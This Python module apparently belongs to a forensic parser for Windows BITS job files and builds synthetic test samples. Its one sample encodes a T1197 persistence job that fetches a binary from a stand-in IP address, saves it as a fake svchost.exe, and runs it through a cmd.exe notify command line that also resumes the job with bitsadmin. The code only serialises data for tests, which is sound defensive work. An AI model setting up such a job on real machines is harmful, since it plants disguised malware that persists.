"""The project's own sample records, built with the schemas (never copied from evidence).

`samples/synthetic/` holds their bytes and expected outputs; a test rebuilds them and
compares byte for byte, so the samples can never drift from the code that reads them.
"""

from __future__ import annotations

from pathlib import Path

from ..decode import build_security_descriptor, encode_file, encode_job
from ..model import Job, JobFile, JobPriority, JobState, JobType, ProxyUsage, SecurityInfo
from ..timeutil import iso_to_filetime

DAY = 86400 * 10**7


def _t(text: str) -> int:
    return iso_to_filetime(text)


def persistence_job() -> tuple[Job, JobFile]:
    """A SYSTEM-owned download whose SetNotifyCmdLine runs the payload it fetched (T1197)."""
    created = _t("2025-03-14T09:26:53.5897932+00:00")
    modified = _t("2025-03-14T09:27:01.0000000+00:00")
    jf = JobFile(
        file_id="c0ffee00-1d1e-4b1a-9f00-000000000001",
        local_name=r"C:\Users\Public\Libraries\svchost.exe",
        remote_name="http://203.0.113.7:8080/a/u.bin",
        temp_name=r"C:\Users\Public\Libraries\BIT3F2A.tmp",
        bytes_transferred=73_802, bytes_total=73_802, drive="C:\\",
        volume="\\\\?\\Volume{5c1d0f6a-0000-0000-0000-100000000000}\\",
        local_attributes=0x80, remote_last_modified=_t("2025-03-13T22:10:05+00:00"),
    )
    job = Job(
        job_id="7e5a1c2d-9b3f-4e61-a0d4-2f8c61b9d0aa",
        marker="e10956a1-af43-42c9-92e6-6f9856eba7f6",
        type=JobType.DOWNLOAD, priority=JobPriority.FOREGROUND, state=JobState.ERROR,
        display_name="WindowsUpdateCheck", description="",
        notify_program=r"C:\Windows\System32\cmd.exe",
        notify_parameters=r'cmd.exe /c start "" C:\Users\Public\Libraries\svchost.exe & '
                          r"bitsadmin /resume WindowsUpdateCheck",
        notify_flags=3, owner_sid="S-1-5-18", file_ids=[jf.file_id],
        transient_error_count=0, min_retry_delay=60, no_progress_timeout=365 * 86400,
        creation_time=created, modification_time=modified, modification_time_2=modified, completion_time=0,
        inactivity_base_time=modified, expiration_time=modified + 90 * DAY,
        proxy_usage=ProxyUsage.PRECONFIG, file_acl_flags=0, security_flags=0, max_download_time=7_776_000,
        cost_flags=0x80000067, network_guid="3d6b8f0e-2a41-4c7e-9d15-6a0b2c4e8f31",
        creator_image=r"C:\Windows\System32\bitsadmin.exe", http_method="GET", aux_string="",
    )
    job.security = SecurityInfo(owner_integrity_rid=0x4000, owner_integrity_level="system",
                                token_unknown=[0, 1, 1, 0x2A17C3D5],
                                raw=build_security_descriptor("S-1-5-18", 0x4000))
    job.unknown = {"tok_unk4": 0x2A17C3D5}
    return job, jf


SAMPLES = {
    "persistence_job.blob": lambda: encode_job(persistence_job()[0]),
    "persistence_file.blob": lambda: encode_file(persistence_job()[1]),
}


def write_samples(folder: str | Path) -> list[Path]:
    """(Re)write the synthetic sample blobs into `folder`."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in SAMPLES.items():
        target = folder / name
        target.write_bytes(make())
        written.append(target)
    return written
